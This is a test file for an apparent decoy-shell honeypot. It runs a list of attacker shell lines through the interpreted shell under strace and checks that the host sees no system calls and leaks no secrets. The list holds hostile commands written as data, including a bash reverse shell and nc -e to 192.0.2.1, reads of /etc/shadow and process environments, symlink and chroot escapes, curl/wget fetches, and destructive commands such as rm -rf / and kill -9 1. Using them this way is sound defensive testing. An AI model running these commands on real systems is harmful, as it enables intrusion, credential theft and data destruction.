// What attackers run in the decoy shell is interpreted: it touches no file, program, address or clock of the host. The
// shell's thread runs under strace, and what the system was asked for meanwhile is read.
import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, test } from 'vitest'
import { loadIdentity } from '../packages/sensor/src/identity.ts'
import { freshState } from '../packages/sensor/src/world/pool.ts'

const strace = spawnSync('strace', ['-V']).status === 0
if (!strace) console.log('skipped: there is no strace here')
const worker = fileURLToPath(new URL('../packages/cli/dist/shell-worker.js', import.meta.url))

const lines = [
  'cat /etc/hostname /etc/passwd /proc/self/environ /proc/1/environ /proc/self/maps',
  'cat ../../../../../../etc/shadow; cat /proc/self/root/etc/shadow; ls -la /proc/self/cwd/ /proc/self/fd/',
  'exec 3<>/dev/tcp/127.0.0.1/22; cat <&3; echo x > /dev/tcp/192.0.2.1/80; echo x > /dev/udp/192.0.2.1/53',
  'wget http://127.0.0.1:22/; curl http://192.0.2.1/ -o /tmp/x; curl file:///etc/shadow; tftp 192.0.2.1 -c get a; nc 192.0.2.1 4444 -e /bin/sh; ping -c1 192.0.2.1; ssh 192.0.2.1; telnet 192.0.2.1; nslookup a.example; dig a.example',
  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  'python3 -c "import os; os.system(\'id\')"; perl -e \'system("id")\'; node -e "process.exit()"; awk \'BEGIN{system("id"); "date" | getline x; print x; while ((getline line < "/etc/shadow") > 0) print line}\'',
  'sed -n "1e id" /etc/passwd; sed "w /tmp/out" /etc/passwd; find / -name passwd -exec cat {} \\;; xargs -a /etc/passwd id; env -i /bin/sh -c id; dd if=/dev/sda count=1',
  'ln -s / /tmp/r; cat /tmp/r/etc/shadow; ln -s /proc/self/exe /tmp/e; cat /tmp/e | head -c 4; mkfifo /tmp/p; mknod /tmp/n b 8 0; mount --bind / /mnt; chroot / id; unshare id; nsenter -t 1 -m id',
  'kill -9 1; kill -9 $$; kill -9 -1; reboot; shutdown -h now; date -s 2001-01-01; hwclock -w; sysctl -w kernel.panic=1; echo b > /proc/sysrq-trigger; insmod /tmp/x.ko; rm -rf /; rm -rf --no-preserve-root /',
  'constructor; __proto__; toString; echo ${constructor}; export __proto__=1; a[__proto__]=1; eval "$(printf "%s" "process.exit()")"; require; import fs; globalThis; echo "$(<../../../../proc/self/environ)"',
]

test.runIf(strace)(
  'the shell asks the system for nothing that a line wants',
  async () => {
    const root = mkdtempSync(join(tmpdir(), 'skep-escape-'))
    const { machine } = (await loadIdentity(join(root, 'sensor'))).persona
    const user = machine.users[0]!
    const jobs = ['echo ready; ls / | wc -l; cat /etc/hostname | md5sum; date; uname -a', ...lines].map(
      (line, job) => ({
        type: 'run',
        job,
        world: 'w',
        version: 0,
        overlay: [],
        state: freshState('/root', 'root', '/bin/bash'),
        line,
        stdin: '',
        user,
        source: '192.0.2.1',
        since: Date.now(),
        merged: false,
        given: [],
        helped: false,
      }),
    )
    writeFileSync(join(root, 'jobs.json'), JSON.stringify({ machine, jobs }))
    writeFileSync(
      join(root, 'run.mjs'),
      `import { Worker } from 'node:worker_threads'
     import { readFileSync, existsSync } from 'node:fs'
     const { machine, jobs } = JSON.parse(readFileSync(${JSON.stringify(join(root, 'jobs.json'))}, 'utf8'))
     const worker = new Worker(${JSON.stringify(worker)}, { workerData: machine })
     const run = (job) => new Promise((done) => {
       const heard = (message) => {
         // What has slept waits for its turn.
         if (message.type === 'woke') worker.postMessage({ type: 'go', job: message.job })
         if (message.type === 'done' && message.job === job.job) { worker.off('message', heard); done(message) }
       }
       worker.on('message', heard)
       worker.postMessage(job)
     })
     // Twice: the parts of the engine that a line needs are loaded with the first.
     const outputs = []
     for (const job of jobs) await run(job)
     existsSync('/marker-of-the-begin')
     for (const job of jobs) outputs.push(await run({ ...job, job: job.job + 1000 }))
     existsSync('/marker-of-the-end')
     process.stdout.write(JSON.stringify(outputs.map(({ out, err }) => out + err)))
     process.exit(0)`,
    )
    const trace = join(root, 'trace')
    // strace hears no signal while it writes to a file; what it traces would stay behind.
    const out = execFileSync(
      'timeout',
      [
        '--signal=KILL',
        '150',
        'strace',
        '-f',
        '-qq',
        '--seccomp-bpf',
        '-e',
        'trace=%network,%process,%file,clock_settime,settimeofday,reboot,mount,kill',
        '-o',
        trace,
        process.execPath,
        join(root, 'run.mjs'),
      ],
      {
        encoding: 'utf8',
        env: { PATH: process.env['PATH'] ?? '', SECRET_OF_THE_HOST: 'do-not-tell' },
        maxBuffer: 64 * 1024 * 1024,
      },
    )
    const asked = readFileSync(trace, 'utf8').split('\n')
    const begin = asked.findIndex((line) => line.includes('marker-of-the-begin'))
    const end = asked.findIndex((line) => line.includes('marker-of-the-end'))
    expect(begin).toBeGreaterThan(0)
    expect(end).toBeGreaterThan(begin)
    // What the language's own threads do for themselves, and the C library for it: it looks at overcommit_memory when it
    // gives memory back (glibc, check_may_shrink_heap).
    const own =
      /^\d+\s+(?:clone3?\(|exit\(|\+\+\+|---|<\.\.\. (?:clone|wait)|openat\(AT_FDCWD, "\/(?:proc\/(?:self\/(?:stat|status|cgroup)|meminfo|stat|sys\/vm\/overcommit_memory)|sys\/(?:fs\/cgroup|devices\/system))|set_robust_list|rseq)/
    expect(asked.slice(begin + 1, end).filter((line) => line !== '' && !own.test(line))).toEqual([])
    // And no answer has anything of the host in it.
    expect(out).not.toContain('do-not-tell')
    expect(out).not.toContain(root)
  },
  200_000,
)
